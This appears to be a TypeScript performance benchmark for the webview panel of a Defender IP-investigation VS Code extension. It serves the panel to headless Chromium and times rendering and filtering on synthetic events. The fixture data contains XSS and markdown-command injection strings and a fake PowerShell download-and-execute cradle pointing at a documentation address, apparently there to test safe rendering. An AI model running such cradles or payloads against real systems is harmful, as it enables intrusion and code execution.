// `npm run bench:panel`: the investigation panel's webview (dist/webview.js) in headless Chromium with a
// stub acquireVsCodeApi and 10,000 timeline events: time from data arrival to the first paint of every
// section, and filter latency. Prints figures against the targets (300 ms, 50 ms) and against a baseline
// measured in the same run and browser (a plain 10,000-row table, bench/panelBaselinePage.ts); asserts nothing.
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import { randomBytes } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Page } from 'playwright-core';
import type { DailyPoint, ObservedMachine, TimelineEvent } from '../src/shared/investigation';
import type { Alert, HostMessage, Machine, PanelIdentity } from '../src/shared/protocol';
import { baselineBundle } from './panelBaseline';
import { rng } from './rng';

/** The repository root (this file also runs bundled from out/e2e/, so look for the manifest). */
function repoRoot(): string {
  for (let dir = __dirname; ; dir = path.dirname(dir)) {
    const manifest = path.join(dir, 'package.json');
    if (fs.existsSync(manifest) && (JSON.parse(fs.readFileSync(manifest, 'utf8')) as { name?: string }).name === 'defender-ip-investigator') return dir;
    if (path.dirname(dir) === dir) throw new Error(`package.json of the extension not found above ${__dirname}`);
  }
}
const ROOT = repoRoot();
export const CHROMIUM_FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];

export const BENCH_HOSTILE = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[link](command:workbench.action.terminal.new)', '\u202Etxt.exe'];

/** The host messages of one finished investigation of 198.51.100.23 with `events` timeline events. */
export function benchMessages(events: number, nowMs = Date.now()): HostMessage[] {
  const r = rng(42);
  const ip = '198.51.100.23';
  const identity: PanelIdentity = { ip, lookback: '30d' };
  const machines: Machine[] = Array.from({ length: 40 }, (_, i) => ({
    id: (i.toString(16).padStart(2, '0') + 'a'.repeat(38)).slice(0, 40),
    computerDnsName: i === 3 ? `${BENCH_HOSTILE[1]}.corp.contoso.com` : i === 7 ? `mac-${BENCH_HOSTILE[3]}.corp.contoso.com` : `ws-${String(i).padStart(3, '0')}.corp.contoso.com`,
    osPlatform: i % 3 ? 'Windows11' : 'Linux',
    riskScore: ['Low', 'Medium', 'High'][i % 3],
    healthStatus: 'Active',
    exposureLevel: ['Low', 'Medium', 'High'][(i + 1) % 3],
    lastSeen: new Date(nowMs - i * 3600_000).toISOString(),
    lastIpAddress: `10.0.${i}.5`,
    machineTags: i % 4 ? [] : ['finance'],
    ipAddresses: [{ ipAddress: `10.0.${i}.5` }],
  }));
  const timeline: TimelineEvent[] = [];
  for (let i = 0; i < events; i++) {
    const m = machines[Math.floor(r() * machines.length)];
    const ps = r() < 0.2;
    timeline.push({
      timestamp: new Date(nowMs - i * 250_000).toISOString(),
      deviceId: m.id,
      deviceName: m.computerDnsName ?? m.id,
      actionType: r() < 0.8 ? 'ConnectionSuccess' : 'ConnectionFailed',
      localIp: m.lastIpAddress,
      localPort: 49152 + Math.floor(r() * 16000),
      remoteIp: ip,
      remotePort: [443, 80, 8443][Math.floor(r() * 3)],
      protocol: 'Tcp',
      process: ps ? 'powershell.exe' : 'chrome.exe',
      folder: ps ? 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' : 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      commandLine: ps ? `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ip}/a')" ${BENCH_HOSTILE[0]}` : 'chrome.exe --type=renderer',
      account: 'contoso\\user',
    });
  }
  const observed: ObservedMachine[] = machines.map((m) => ({
    id: m.id,
    name: m.computerDnsName ?? m.id,
    firstSeen: new Date(nowMs - 29 * 86400_000).toISOString(),
    lastSeen: m.lastSeen,
    events: Math.floor(events / machines.length),
    remotePorts: [443, 80],
    localPorts: [],
    processes: ['chrome.exe', 'powershell.exe'],
    files: [],
  }));
  const alerts: Alert[] = Array.from({ length: 60 }, (_, i) => ({
    id: `da${i}`,
    title: i % 10 === 0 ? BENCH_HOSTILE[i % 4] : `Connection to a suspicious remote host #${i}`,
    severity: ['High', 'Medium', 'Low', 'Informational'][i % 4],
    status: i % 3 ? 'New' : 'InProgress',
    category: 'CommandAndControl',
    detectionSource: 'WindowsDefenderAtp',
    machineId: machines[i % 10].id,
    computerDnsName: machines[i % 10].computerDnsName,
    firstEventTime: new Date(nowMs - (i + 5) * 3600_000).toISOString(),
    lastEventTime: new Date(nowMs - i * 3600_000).toISOString(),
    incidentId: 100 + (i % 7),
    mitreTechniques: [],
    evidence: [],
  }));
  const daily: DailyPoint[] = Array.from({ length: 30 }, (_, d) => ({
    day: new Date(Math.floor((nowMs - d * 86400_000) / 86400_000) * 86400_000).toISOString(),
    machines: 5 + Math.floor(r() * 30),
    events: 100 + Math.floor(r() * 300),
  }));
  const cachedAt = new Date(nowMs).toISOString();
  const runId = 1;
  return [
    {
      kind: 'init',
      identity,
      facts: { ip, version: 4, ipClass: 'documentation', block: { prefix: '198.51.100.0/24', name: 'Documentation (TEST-NET-2)', rfc: 'RFC 5737' }, internal: false, defanged: false, leadingZeros: false },
      demo: true,
      rdapEnabled: true,
      now: cachedAt,
    },
    { kind: 'run', runId, identity, sections: ['stats', 'alerts', 'machines', 'timeline', 'daily', 'machinesAtTime', 'machineDetails', 'rdap', 'reverseDns'] },
    { kind: 'section', runId, section: 'rdap', state: 'skipped', reason: 'No registration lookup for documentation addresses: they never leave this machine.' },
    { kind: 'section', runId, section: 'reverseDns', state: 'skipped', reason: 'No reverse DNS for documentation addresses.' },
    { kind: 'section', runId, section: 'machinesAtTime', state: 'skipped', reason: 'Only internal addresses are looked up by time: a public address is not assigned to a machine.' },
    { kind: 'section', runId, section: 'stats', state: 'ready', payload: { section: 'stats', stats: { prevalence: 40, firstSeen: daily[29].day, lastSeen: cachedAt, cachedAt } } },
    { kind: 'section', runId, section: 'alerts', state: 'ready', payload: { section: 'alerts', alerts } },
    { kind: 'section', runId, section: 'daily', state: 'ready', payload: { section: 'daily', points: daily } },
    { kind: 'section', runId, section: 'machines', state: 'ready', payload: { section: 'machines', machines: observed } },
    { kind: 'section', runId, section: 'timeline', state: 'ready', payload: { section: 'timeline', events: timeline, truncated: events >= 10000 } },
    { kind: 'section', runId, section: 'machineDetails', state: 'ready', payload: { section: 'machineDetails', details: Object.fromEntries(machines.slice(0, 10).map((m) => [m.id, m])) } },
    { kind: 'done', runId, cachedAt },
    {
      kind: 'indicators',
      view: {
        state: 'ready',
        indicators: [{ id: '6001', action: 'Block', title: `Known C2 ${BENCH_HOSTILE[2]}`, severity: 'High', expirationTime: new Date(nowMs + 30 * 86400_000).toISOString(), createdBy: 'demo-analyst', generateAlert: true, rbacGroupNames: [] }],
        write: { enabled: true },
        history: [{ at: cachedAt, kind: 'create', action: 'Block', outcome: '1 created', identity: 'demo-analyst', requestIds: ['00000000-0000-4000-8000-000000000001'] }],
        fetchedAt: cachedAt,
      },
    },
  ];
}

/** A test theme: enough --vscode-* variables for the panel to look like VS Code's dark or high-contrast themes. */
const THEMES: Record<'dark' | 'light' | 'high-contrast', string> = {
  dark: ':root{--vscode-foreground:#ccc;--vscode-editor-background:#1e1e1e;--vscode-descriptionForeground:#9d9d9d;--vscode-font-family:sans-serif;--vscode-font-size:13px;--vscode-editor-font-family:monospace;--vscode-panel-border:#444;--vscode-textLink-foreground:#3794ff;--vscode-charts-blue:#3794ff;--vscode-charts-red:#f14c4c;--vscode-charts-orange:#d18616;--vscode-charts-yellow:#cca700;--vscode-errorForeground:#f48771;--vscode-list-hoverBackground:#2a2d2e;--vscode-list-inactiveSelectionBackground:#37373d;--vscode-focusBorder:#007fd4}',
  light: ':root{--vscode-foreground:#333;--vscode-editor-background:#fff;--vscode-descriptionForeground:#717171;--vscode-font-family:sans-serif;--vscode-font-size:13px;--vscode-editor-font-family:monospace;--vscode-panel-border:#ddd;--vscode-textLink-foreground:#006ab1;--vscode-charts-blue:#1a85ff;--vscode-errorForeground:#a1260d}',
  'high-contrast': ':root{--vscode-foreground:#fff;--vscode-editor-background:#000;--vscode-descriptionForeground:#fff;--vscode-font-family:sans-serif;--vscode-font-size:13px;--vscode-editor-font-family:monospace;--vscode-contrastBorder:#6fc3df;--vscode-contrastActiveBorder:#f38518;--vscode-textLink-foreground:#21a6ff;--vscode-charts-blue:#3794ff;--vscode-errorForeground:#f48771;--vscode-focusBorder:#f38518}',
};

/** Another app served in the panel's page instead of dist/webview.js (the benchmark's baseline). */
export interface PageBundle {
  /** JavaScript, served as /app.js under the same script nonce. */
  script: string;
  /** Extra CSS, served as /app.css after media/panel.css. */
  css: string;
}

/** Which shipped webview the page loads (default: the panel's bundle and stylesheet). */
export interface PageFiles {
  script: '/dist/webview.js' | '/dist/triage.js' | '/dist/machine.js';
  css: '/media/panel.css' | '/media/triage.css';
  /** A stylesheet linked after `css` (the machine view's own). */
  extraCss?: '/media/machine.css';
  /** Theme variables to use instead of the named theme's. */
  themeCss?: string;
}

export interface StaticPanel {
  url: string;
  close(): Promise<void>;
}

/**
 * Serves the panel as VS Code would (same CSP: scripts by nonce, styles from the extension only) on
 * loopback, with a stub `acquireVsCodeApi` that records what the webview posts in `window.__sent`.
 * With `bundle`, the same page runs that app instead of the panel.
 */
export async function serveStaticPanel(
  theme: keyof typeof THEMES = 'dark',
  bundle?: PageBundle,
  files: PageFiles = { script: '/dist/webview.js', css: '/media/panel.css' },
): Promise<StaticPanel> {
  const nonce = randomBytes(16).toString('base64');
  const styleNonce = randomBytes(16).toString('base64');
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const origin = `http://${req.headers.host ?? '127.0.0.1'}`;
    const send = (type: string, body: string | Buffer) => {
      res.writeHead(200, { 'content-type': type, 'cache-control': 'no-store' });
      res.end(body);
    };
    if (url.pathname === '/') {
      const csp = `default-src 'none'; script-src 'nonce-${nonce}'; style-src ${origin} 'nonce-${styleNonce}'; img-src ${origin} data:; font-src ${origin};`;
      return send(
        'text/html; charset=utf-8',
        `<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"><meta http-equiv="Content-Security-Policy" content="${csp}"><meta property="csp-nonce" content="${styleNonce}">` +
          `<link rel="stylesheet" href="/theme.css"><link rel="stylesheet" href="${files.css}">${files.extraCss ? `<link rel="stylesheet" href="${files.extraCss}">` : ''}${bundle ? '<link rel="stylesheet" href="/app.css">' : ''}` +
          `<script nonce="${nonce}" src="/stub.js"></script><script nonce="${nonce}" src="${bundle ? '/app.js' : files.script}"></script></head>` +
          `<body class="${theme === 'high-contrast' ? 'vscode-high-contrast' : `vscode-${theme}`}"><div id="app"></div></body></html>`,
      );
    }
    if (url.pathname === '/theme.css') return send('text/css', files.themeCss ?? THEMES[theme]);
    if (bundle && url.pathname === '/app.js') return send('text/javascript', bundle.script);
    if (bundle && url.pathname === '/app.css') return send('text/css', bundle.css);
    if (url.pathname === '/stub.js') {
      return send(
        'text/javascript',
        'window.__sent=[];window.__state=undefined;window.acquireVsCodeApi=function(){return{postMessage:function(m){window.__sent.push(JSON.parse(JSON.stringify(m)));},getState:function(){return window.__state;},setState:function(s){window.__state=JSON.parse(JSON.stringify(s));}};};',
      );
    }
    const allowed: Record<string, string> = { [files.script]: 'text/javascript', [files.css]: 'text/css', ...(files.extraCss ? { [files.extraCss]: 'text/css' } : {}) };
    const type = allowed[url.pathname];
    if (!type) {
      res.writeHead(404).end();
      return;
    }
    fs.readFile(path.join(ROOT, url.pathname), (error, body) => {
      if (error) res.writeHead(404).end();
      else send(type, body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

export async function launchBrowser(): Promise<Browser> {
  return chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_FLAGS, headless: true });
}

/** Opens the static panel and waits for the webview's `ready`. */
export async function openPanelPage(browser: Browser, url: string): Promise<Page> {
  const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
  await page.goto(url);
  await page.waitForFunction(() => (window as unknown as { __sent: { kind: string }[] }).__sent.some((m) => m.kind === 'ready'), undefined, { timeout: 15_000 });
  return page;
}

/** Posts host messages and resolves after the next frame has painted; returns the elapsed ms (in the page). */
export async function deliver(page: Page, messages: readonly HostMessage[] | readonly object[]): Promise<number> {
  return (await deliverTimed(page, messages)).total;
}

export interface DeliveryTimes {
  /** Receiving the messages: validation and the model (synchronous, in the message handlers). */
  receive: number;
  /** Building the sections' DOM (the panel's render measures). */
  render: number;
  /** Arrival to the first frame painted after all sections rendered. */
  total: number;
}

/** Like `deliver`, with the time split into receiving, rendering and the rest (style, layout, paint). */
export function deliverTimed(page: Page, messages: readonly HostMessage[] | readonly object[]): Promise<DeliveryTimes> {
  return page.evaluate(async (msgs) => {
    performance.clearMeasures();
    const t0 = performance.now();
    for (const data of msgs) window.dispatchEvent(new MessageEvent('message', { data }));
    const t1 = performance.now();
    await new Promise<void>((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
    const total = performance.now() - t0;
    const render = performance
      .getEntriesByType('measure')
      .filter((m) => m.name.startsWith('ipinv:render:'))
      .reduce((n, m) => n + m.duration, 0);
    return { receive: t1 - t0, render, total };
  }, messages);
}

/** Types a filter and resolves after the filtered timeline has painted; returns the elapsed ms. */
export function typeFilter(page: Page, query: string): Promise<{ ms: number; count: string }> {
  return page.evaluate(async (q) => {
    const field = document.getElementById('timeline-filter') as (HTMLElement & { value: string }) | null;
    if (!field) throw new Error('no filter field');
    const done = new Promise<void>((resolve) => document.addEventListener('ipinv:timeline-filtered', () => resolve(), { once: true }));
    const t0 = performance.now();
    field.value = q;
    field.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
    await done;
    await new Promise<void>((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
    return { ms: performance.now() - t0, count: document.getElementById('timeline-count')?.textContent ?? '' };
  }, query);
}

function stats(xs: number[]): { median: number; p95: number; max: number } {
  const s = [...xs].sort((a, b) => a - b);
  const at = (q: number) => s[Math.min(s.length - 1, Math.floor(q * s.length))];
  return { median: at(0.5), p95: at(0.95), max: s[s.length - 1] };
}

interface Measured {
  paint: number[];
  receive: number[];
  render: number[];
  filters: number[];
  /** What each filter's count line said, in query order, for the last run. */
  counts: string[];
  rows: number;
}

const measured = (): Measured => ({ paint: [], receive: [], render: [], filters: [], counts: [], rows: 0 });

/**
 * One run on a fresh page: the panel is open (init) and the run has started before any data arrives, as in
 * VS Code; then the data arrives, then the filters are typed. The panel and the baseline go through exactly
 * this code, so they are timed the same way.
 */
async function measureOnce(
  browser: Browser,
  url: string,
  messages: HostMessage[],
  queries: readonly string[],
  into: Measured,
  rowSelector: string,
  afterPaint?: (page: Page) => Promise<void>,
): Promise<void> {
  const page = await openPanelPage(browser, url);
  try {
    await deliver(page, messages.slice(0, 2));
    const t = await deliverTimed(page, messages.slice(2));
    into.paint.push(t.total);
    into.receive.push(t.receive);
    into.render.push(t.render);
    await afterPaint?.(page);
    into.rows = await page.$$eval(rowSelector, (els) => els.length);
    into.counts = [];
    for (const q of queries) {
      const f = await typeFilter(page, q);
      into.filters.push(f.ms);
      into.counts.push(f.count);
    }
  } finally {
    await page.close();
  }
}

async function main(): Promise<void> {
  const bundle = path.join(ROOT, 'dist/webview.js');
  if (!fs.existsSync(bundle)) throw new Error('dist/webview.js is missing: run `npm run build` first.');
  const events = Number(process.env.BENCH_EVENTS ?? 10_000);
  const runs = Number(process.env.BENCH_RUNS ?? 7);
  // A baseline run takes about four times as long as ours (90,000 elements to style and lay out, twice per
  // run when a filter hides or shows them all): fewer runs keep the whole benchmark under two minutes.
  const baseRuns = Number(process.env.BENCH_BASELINE_RUNS ?? Math.min(runs, 4));
  const server = await serveStaticPanel('dark');
  const baselineServer = await serveStaticPanel('dark', await baselineBundle(ROOT));
  const browser = await launchBrowser();
  try {
    const version = browser.version();
    const messages = benchMessages(events);
    const bytes = Buffer.byteLength(JSON.stringify(messages));
    const ours = measured();
    const base = measured();
    const queries = ['ws-01', 'ws-012', 'powershell', 'system32 ws-0', new Date().toISOString().slice(0, 10), 'no-such-thing', ''];
    for (let run = 0; run < Math.max(runs, baseRuns); run++) {
      // Interleaved, alternating which page goes first, so other load on the shared cores hits both alike.
      const order = run % 2 === 0 ? (['ours', 'base'] as const) : (['base', 'ours'] as const);
      for (const which of order) {
        if (which === 'ours' ? run >= runs : run >= baseRuns) continue;
        if (which === 'ours') {
          await measureOnce(browser, server.url, messages, queries, ours, '.vl-rows > .tl-row', async (page) => {
            const statuses = await page.$$eval('section[data-section]', (els) => els.map((e) => `${(e as HTMLElement).dataset.section}=${(e as HTMLElement).dataset.status}`));
            if (statuses.some((s) => s.endsWith('=loading'))) throw new Error(`Not all sections painted: ${statuses.join(', ')}`);
          });
        } else {
          await measureOnce(browser, baselineServer.url, messages, queries, base, '.baseline-table tbody > tr');
        }
      }
    }
    const firstNumber = (s: string) => s.match(/^[\d,]+/)?.[0] ?? s;
    const mismatches = queries.filter((_, i) => firstNumber(ours.counts[i] ?? '') !== firstNumber(base.counts[i] ?? ''));
    const p = stats(ours.paint.slice(1));
    const rc = stats(ours.receive.slice(1));
    const rd = stats(ours.render.slice(1));
    const f = stats(ours.filters);
    const bp = stats(base.paint.slice(1));
    const brd = stats(base.render.slice(1));
    const bf = stats(base.filters);
    const ms = (x: number) => `${x.toFixed(1)} ms`;
    const ratio = (b: number, o: number) => `${(b / o).toFixed(1)}x`;
    const out = (s: string) => process.stdout.write(`${s}\n`);
    out(`Panel benchmark (load average ${os.loadavg()[0].toFixed(1)} on ${os.cpus().length} cores; Chromium ${version}, ${events.toLocaleString('en')} timeline events, ${(bytes / 1e6).toFixed(1)} MB of messages, ${runs} runs, first run = warm-up)`);
    out(`  data arrival -> first paint of all sections: median ${p.median.toFixed(1)} ms, p95 ${p.p95.toFixed(1)} ms, max ${p.max.toFixed(1)} ms (target < 300 ms: ${p.median < 300 ? 'met' : 'MISSED'}; ratio ${(p.median / 300).toFixed(2)})`);
    out(`    of which: receiving (validation + model) median ${rc.median.toFixed(1)} ms, rendering the sections median ${rd.median.toFixed(1)} ms, the rest is style, layout and paint`);
    out(`  filter latency (type -> painted, ${ours.filters.length} filters): median ${f.median.toFixed(1)} ms, p95 ${f.p95.toFixed(1)} ms, max ${f.max.toFixed(1)} ms (target < 50 ms: ${f.p95 < 50 ? 'met' : 'MISSED'}; ratio ${(f.median / 50).toFixed(2)})`);
    out(`  event rows in the DOM: ${ours.rows} of ${events.toLocaleString('en')} (virtual scrolling)`);
    out(`Baseline, same run and browser (${baseRuns} runs, first = warm-up, interleaved with ours): the same events as a plain table (one <tr> per event, createElement/textContent, same CSP and CSS), filtered by walking every row (substring test, toggling hidden); rows in the DOM: ${base.rows}`);
    out(`  paint (data arrival -> painted; ours = all sections, baseline = the table alone):`);
    out(`    ours median ${ms(p.median)}, p95 ${ms(p.p95)} | baseline median ${ms(bp.median)}, p95 ${ms(bp.p95)} (building the rows ${ms(brd.median)}) | ratio baseline/ours: median ${ratio(bp.median, p.median)}, p95 ${ratio(bp.p95, p.p95)}`);
    out(`  filter (type -> painted, ${ours.filters.length} and ${base.filters.length} filters):`);
    out(`    ours median ${ms(f.median)}, p95 ${ms(f.p95)} | baseline median ${ms(bf.median)}, p95 ${ms(bf.p95)} | ratio baseline/ours: median ${ratio(bf.median, f.median)}, p95 ${ratio(bf.p95, f.p95)}`);
    out(
      mismatches.length === 0
        ? `  both show the same match counts for all ${queries.length} filters`
        : `  NOTE: match counts differ for ${mismatches.map((q) => JSON.stringify(q)).join(', ')} (ours ${ours.counts.join(' | ')}; baseline ${base.counts.join(' | ')})`,
    );
  } finally {
    await browser.close();
    await server.close();
    await baselineServer.close();
  }
}

if (require.main === module) {
  main().catch((e: unknown) => {
    process.stderr.write(`${e instanceof Error ? (e.stack ?? e.message) : String(e)}\n`);
    process.exitCode = 1;
  });
}
